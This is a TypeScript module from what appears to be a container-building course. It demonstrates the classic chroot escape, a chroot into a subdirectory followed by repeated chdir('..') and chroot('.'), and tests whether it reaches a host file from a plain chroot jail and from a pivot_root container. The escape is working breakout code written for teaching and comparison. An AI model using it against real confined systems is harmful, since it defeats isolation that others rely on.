/**
 * What chroot(2) lets through and pivot_root(2) doesn't: the escape that every root in a chroot has. A set-up is a list of
 * syscalls, so the escape is one as well: it stands where the command's execve would, with a command that looks around.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { report } from "../../common/cli.ts";
import { UserError } from "../../common/errors.ts";
import { home } from "../../common/home.ts";
import { missingMountpoints } from "../../common/mountpoints.ts";
import { builtinRootfs } from "../../common/rootfs.ts";
import { isRoot } from "../../scripts/root.ts";
import { CLONE_NEWNS } from "../../syscall/constants.ts";
import { child, exitStatus, launch, restoreSignals } from "../../syscall/launch.ts";
import { isList, type Step, step } from "../../syscall/program.ts";
import { container } from "./container.ts";
import { execute } from "./exec.ts";
import { FILESYSTEM_DIRECTORIES } from "./filesystems.ts";
import { privateMounts } from "./root.ts";

// #region escape
/** More levels than any path has; ".." of the real root is the root itself, so too many do no harm. */
const LEVELS = 64;

/** Root moves into a root that it isn't standing in: from outside of it, no wall is between ".." and the top. */
const wayOut = (): Step[] => [
  step("chroot", ["/bin"], "a root further down (any directory will do), while the working directory stays"),
  ...Array.from({ length: LEVELS }, () => step("chdir", [".."], "up, past the root that isn't above us")),
  step("chroot", ["."], "where that ended is the root now"),
];
// #endregion escape

// #region jails
/** What chroot(8) does, in a mount namespace of its own: nothing but the start of each path changes. */
const chrootJail = (rootfs: string, command: readonly Step[]): Step[] => [
  child(
    CLONE_NEWNS,
    [
      ...privateMounts(),
      step("chroot", [rootfs], "paths begin here from now on"),
      step("chdir", ["/"], "and so does the working directory"),
      restoreSignals(),
      ...command,
    ],
    "a child in a mount namespace of its own",
  ),
];

/** Chapter 03's container, with other steps in the place of its command. */
function chapterJail(rootfs: string, command: readonly Step[]): Step[] {
  const kernelTargets = FILESYSTEM_DIRECTORIES.map((target) => ({ target, isDirectory: true }));
  const program = container({
    command: ["/bin/true"],
    tty: false,
    environment: [],
    hostname: "jail",
    rootfs,
    volumes: [],
    mountpoints: missingMountpoints(rootfs, kernelTargets),
    workdir: "/",
    init: false,
  });
  return program.map((each) => ({
    ...each,
    args: each.args.map((arg) =>
      isList(arg) ? [...arg.filter(({ call }) => call !== "execve"), ...command] : arg,
    ),
  }));
}
// #endregion jails

export const JAILS = { chroot: chrootJail, "chapter 03": chapterJail } as const;

/** Whether a program that is root in this jail, and tries the escape, then reads a file of the host's. */
export async function attack(jail: keyof typeof JAILS): Promise<boolean> {
  const rootfs = await builtinRootfs(home());
  const folder = mkdtempSync(path.join(os.tmpdir(), "ft-docker-secret-"));
  try {
    writeFileSync(path.join(folder, "secret"), "");
    const look = execute(["test", "-e", path.join(folder, "secret")], ["PATH=/usr/bin:/bin"]);
    const launched = launch(JAILS[jail](rootfs, [...wayOut(), ...look]));
    await launched.executed;
    return exitStatus(await launched.exited) === 0;
  } finally {
    rmSync(folder, { recursive: true });
  }
}

async function main(): Promise<number> {
  if (!isRoot())
    throw new UserError("breakout: only root can try", {
      hint: "sudo npx tsx chapters/03-pid-mnt/breakout.ts",
    });
  for (const jail of Object.keys(JAILS) as (keyof typeof JAILS)[]) {
    console.log(`${jail}: ${(await attack(jail)) ? "it read a file of the host's" : "it is still inside"}`);
  }
  return 0;
}

if (import.meta.filename === process.argv[1]) process.exit(await main().catch(report));
